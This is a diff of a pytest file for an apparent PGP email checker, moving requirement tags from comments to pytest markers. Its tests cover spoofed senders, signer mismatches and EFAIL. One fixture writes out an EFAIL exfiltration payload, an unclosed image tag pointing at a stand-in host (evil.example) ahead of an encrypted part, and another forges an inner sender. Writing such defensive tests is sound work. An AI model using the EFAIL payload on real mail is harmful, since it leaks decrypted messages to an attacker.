@@ -129,7 +129,8 @@ def test_attachments_and_offered_keys_come_with_their_bytes(look, seal, home):
     assert all(sha256(content) == name for name, content in opened.contents.items())
 
 
-def test_efail_parts_are_opened_apart_and_the_rest_is_set_aside(look, seal):  # CHECKS A1
+@pytest.mark.checks("A1")
+def test_efail_parts_are_opened_apart_and_the_rest_is_set_aside(look, seal):
     body = b'--m\nContent-Type: text/html\n\n<img src="http://evil.example/\n--m\n'
     body += b"Content-Type: application/pgp-encrypted\n\nVersion: 1\n--m\n"
     body += b"Content-Type: application/octet-stream\n\n" + seal(ENTITY) + b"\n--m\n"
@@ -143,13 +144,15 @@ def test_efail_parts_are_opened_apart_and_the_rest_is_set_aside(look, seal):  # 
     assert b"The report" not in opened.contents[report.attachments[0].sha256]
 
 
-def test_several_encrypted_parts_are_refused(look, seal):  # CHECKS A1, A5
+@pytest.mark.checks("A1", "A5")
+def test_several_encrypted_parts_are_refused(look, seal):
     with pytest.raises(SeveralMessages):
         look(mail(seal(b"one") + b"\n" + seal(b"two")))
 
 
+@pytest.mark.checks("A12")
 @pytest.mark.parametrize("sender", [EVE, "rae@example.com", "RAE@example.org"])
-def test_a_signature_of_somebody_else_is_not_good_and_says_whose(look, seal, sender):  # CHECKS A12
+def test_a_signature_of_somebody_else_is_not_good_and_says_whose(look, seal, sender):
     report = look(pgp_mime(seal(ENTITY, RAE), sender=sender)).report
     assert (report.signature.verdict, states(report)) == ("not-good", ["uid-mismatch"])
     reason = report.signature.signers[0].reason
@@ -162,7 +165,8 @@ def test_the_domain_of_a_signer_may_be_written_in_any_case(look, seal):
     assert look(pgp_mime(seal(ENTITY, RAE), sender="rae@EXAMPLE.org")).report.signature.verdict == "good"
 
 
-def test_two_signers_are_both_listed(look, seal):  # CHECKS A13
+@pytest.mark.checks("A13")
+def test_two_signers_are_both_listed(look, seal):
     report = look(pgp_mime(seal(ENTITY, RAE, EVE))).report
     assert sorted(states(report)) == ["good", "uid-mismatch"]
     assert report.signature.verdict == "not-good"
@@ -210,7 +214,8 @@ def spoofs(home):
     yield "own signature, other sender", signed_mail(home, real, EVE)
 
 
-def test_no_spoof_is_graded_as_signed(look, home):  # CHECKS A11
+@pytest.mark.checks("A11")
+def test_no_spoof_is_graded_as_signed(look, home):
     for name, raw in spoofs(home):
         report = look(raw).report
         assert report.reporter.grade != "signed", name
@@ -218,7 +223,8 @@ def test_no_spoof_is_graded_as_signed(look, home):  # CHECKS A11
             assert report.signature.verdict != "good", name
 
 
-def test_an_encrypted_sender_that_contradicts_the_outer_one_is_ambiguous(look, seal):  # CHECKS A11
+@pytest.mark.checks("A11")
+def test_an_encrypted_sender_that_contradicts_the_outer_one_is_ambiguous(look, seal):
     entity = ENTITY.replace(b"Subject:", b"From: Eve <eve@evil.example>\nSubject:")
     report = look(pgp_mime(seal(entity, EVE))).report
     assert report.reporter.grade == "ambiguous"
@@ -226,7 +232,8 @@ def test_an_encrypted_sender_that_contradicts_the_outer_one_is_ambiguous(look, s
     assert report.signature.verdict == "not-good"
 
 
-def test_of_a_clearsigned_text_only_what_gpg_emitted_is_shown(look, home):  # CHECKS A16
+@pytest.mark.checks("A16")
+def test_of_a_clearsigned_text_only_what_gpg_emitted_is_shown(look, home):
     clear = home.clearsign(b"- dashes\nreal\n", RAE)
     whole = look(mail(clear)).report
     assert (whole.text.raw, whole.signature.verdict, whole.reporter.grade) == (
@@ -267,8 +274,9 @@ def test_what_is_no_signature_proves_nothing_and_hides_nothing(look, home):
     )
 
 
+@pytest.mark.checks("A14")
 @pytest.mark.parametrize(("days", "late"), [(6, False), (8, True), (-8, True)])
-def test_a_signature_far_from_the_arrival_is_told(look, home, days, late):  # CHECKS A14
+def test_a_signature_far_from_the_arrival_is_told(look, home, days, late):
     made = datetime.now(UTC)
     arrived = (made + timedelta(days=days)).strftime("%d %b %Y %H:%M:%S +0000")
     raw = signed_mail(home, ENTITY, RAE, headers=f"Received: from a by b; {arrived}\n")
